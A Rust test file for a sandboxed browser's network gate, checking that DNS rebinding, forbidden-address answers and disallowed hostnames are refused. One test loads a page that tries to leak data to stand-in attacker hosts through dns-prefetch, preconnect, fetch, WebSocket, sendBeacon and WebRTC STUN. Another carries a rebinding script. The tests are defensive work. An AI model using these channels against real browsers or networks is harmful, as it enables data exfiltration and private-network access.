//! Names that lead, or come to lead, where they must not.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bathy_browser::{Containment, Deadline, Engine, EngineOptions, Error, Session, SessionOptions, Tab, WaitUntil};
use bathy_egress::{Code, GateOptions, HostOverrides, NameServerResolver, OverrideResolver, Resolve, SystemResolver};
use bathy_testsite::{Canary, DnsDouble, Reply, TestSite};

use super::{FORBIDDEN, allowlist};
use crate::support::{options, soon};

const LEVELS: [Containment; 2] = [Containment::Kernel, Containment::Browser];

/// An engine that asks a resolver of the test's, with a session and its tab.
struct Asked {
    engine: Engine,
    _session: Session,
    tab: Tab,
}

impl Asked {
    async fn by(containment: Containment, resolver: Arc<dyn Resolve>) -> Self {
        let engine = Engine::new(EngineOptions {
            containment,
            gate: GateOptions { resolver, ..GateOptions::default() },
            ..options(allowlist())
        });
        let options = SessionOptions { id: "names".to_owned(), ..SessionOptions::default() };
        let session = engine.open_session(options).await.unwrap();
        let tab = session.tab(None).await.unwrap();
        Self { engine, _session: session, tab }
    }

    async fn with_dns(containment: Containment, dns: &DnsDouble) -> Self {
        Self::by(containment, Arc::new(NameServerResolver::new(dns.address()).unwrap())).await
    }

    async fn load(&self, url: &str) -> Result<(), Error> {
        self.tab.navigate(url, WaitUntil::Load, soon()).await.map(drop)
    }

    /// Waits until the gate has refused so many connections to this host.
    async fn refused(&self, host: &str, times: usize) {
        let refused = || {
            let entries = self.engine.ledger().recent(Some("names"), usize::MAX);
            let refused = entries.iter().filter(|entry| entry.host == host && entry.code == Some(Code::PrivateNetwork));
            refused.count()
        };
        let deadline = Deadline::after(Duration::from_secs(10));
        while refused() < times {
            assert!(!deadline.has_passed(), "{} of {times} for {host}", refused());
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
}

fn assert_private(error: &Error) {
    assert!(matches!(error, Error::RefusedByGate { code: Code::PrivateNetwork, .. }), "{error:?}");
}

#[tokio::test]
async fn an_allowed_name_that_the_operator_points_at_a_forbidden_address_is_refused() {
    for level in LEVELS {
        let canary = Canary::start(FORBIDDEN).await;
        let overrides = HostOverrides::new([("allowed.test", vec![FORBIDDEN.into()])]).unwrap();
        let asked = Asked::by(level, Arc::new(OverrideResolver::new(overrides, Arc::new(SystemResolver)))).await;
        for scheme in ["http", "https"] {
            let url = format!("{scheme}://allowed.test:{}/", canary.address().port());
            assert_private(&asked.load(&url).await.unwrap_err());
        }
        assert!(canary.hits().is_empty());
    }
}

#[tokio::test]
async fn one_forbidden_address_among_good_ones_refuses_the_name() {
    for level in LEVELS {
        let site = TestSite::start().await;
        let dns = DnsDouble::start().await;
        let port = site.addresses()[0].port();
        let canary = Canary::bind(SocketAddr::new(FORBIDDEN.into(), port)).await.unwrap();
        dns.script("allowed.test", [Reply::addresses(["127.0.0.1", "127.0.0.3"])]);
        dns.script("www.allowed.test", [Reply::addresses(["127.0.0.1", "::ffff:127.0.0.3"])]);
        dns.script("alias.allowed.test", [Reply::Alias("allowed.test".to_owned())]);
        let asked = Asked::with_dns(level, &dns).await;
        for host in ["allowed.test", "www.allowed.test", "alias.allowed.test"] {
            assert_private(&asked.load(&format!("http://{host}:{port}/")).await.unwrap_err());
        }
        assert!(canary.hits().is_empty() && site.requests().is_empty());
    }
}

#[tokio::test]
async fn a_name_whose_answer_changes_is_checked_each_time() {
    for level in LEVELS {
        let site = TestSite::start().await;
        let dns = DnsDouble::start().await;
        let port = site.addresses()[0].port();
        let canary = Canary::bind(SocketAddr::new(FORBIDDEN.into(), port)).await.unwrap();
        dns.script("allowed.test", [Reply::addresses(["127.0.0.1"]), Reply::addresses(["127.0.0.3"])]);
        let asked = Asked::with_dns(level, &dns).await;
        let path = "headers?connection=close";
        asked.load(&format!("http://allowed.test:{port}/{path}")).await.unwrap();
        assert_private(&asked.load(&format!("http://allowed.test:{port}/{path}")).await.unwrap_err());
        assert!(canary.hits().is_empty());
        let looked_up = dns.queries().iter().filter(|query| query.name == "allowed.test").count();
        assert!(looked_up >= 4, "each look-up asks for both families: {looked_up}");
    }
}

#[tokio::test]
async fn a_page_that_rebinds_its_own_name_reaches_nothing() {
    for level in LEVELS {
        let site = TestSite::start().await;
        let dns = DnsDouble::start().await;
        let port = site.addresses()[0].port();
        let canary = Canary::bind(SocketAddr::new(FORBIDDEN.into(), port)).await.unwrap();
        dns.script("allowed.test", [Reply::addresses(["127.0.0.1"]), Reply::addresses(["127.0.0.3"])]);
        let page = bathy_testsite::Page::html(
            "<body><script>
               for (let i = 0; i < 4; i++) fetch('/slow?ms=1&' + i).catch(() => 0);
               new WebSocket('ws://' + location.host + '/ws');
             </script>",
        );
        let path = site.add(page.at("rebinding").header("connection", "close"));
        let asked = Asked::with_dns(level, &dns).await;
        asked.load(&path.replace("127.0.0.1", "allowed.test")).await.unwrap();
        asked.refused("allowed.test", 5).await;
        assert!(canary.hits().is_empty());
    }
}

#[tokio::test]
async fn a_refused_name_is_never_looked_up() {
    const SECRETS: [&str; 5] =
        ["secret.attacker.test", "allowed.test.attacker.test", "evil-allowed.test", "allowed.tests", "attacker.test"];
    for level in LEVELS {
        let site = TestSite::start().await;
        let dns = DnsDouble::start().await;
        let asked = Asked::with_dns(level, &dns).await;
        let attempts = SECRETS.map(|secret| {
            format!(
                "<link rel=dns-prefetch href='http://{secret}'><link rel=preconnect href='http://{secret}'>
                 <link rel=prefetch href='http://{secret}/p'><img src='http://{secret}/i'><img src='https://{secret}/s'>
                 <iframe src='http://{secret}/f'></iframe>
                 <script>fetch('http://{secret}/', {{mode: 'no-cors'}}).catch(() => 0); new WebSocket('ws://{secret}/');
                   navigator.sendBeacon('http://{secret}/b', 's');
                   try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{secret}:3478'}}]}});
                     pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)) }} catch {{}}</script>"
            )
        });
        asked.load(&site.page(format!("<body>{}", attempts.concat()))).await.unwrap();
        for secret in SECRETS {
            assert!(asked.load(&format!("http://{secret}/")).await.is_err());
        }
        // A look-up that is allowed shows that the double hears, after all that came before it.
        dns.script("allowed.test", [Reply::addresses(["127.0.0.1"])]);
        let port = site.addresses()[0].port();
        asked.load(&format!("http://allowed.test:{port}/")).await.unwrap();
        let names: Vec<String> = dns.queries().into_iter().map(|query| query.name).collect();
        assert!(names.iter().all(|name| name == "allowed.test") && !names.is_empty(), "{names:?}");
        let refused: Vec<String> = asked
            .engine
            .ledger()
            .recent(Some("names"), usize::MAX)
            .iter()
            .filter(|entry| entry.code == Some(Code::HostNotAllowed))
            .map(|entry| entry.host.clone())
            .collect();
        assert!(SECRETS.iter().all(|secret| refused.iter().any(|host| host == secret)), "{refused:?}");
    }
}
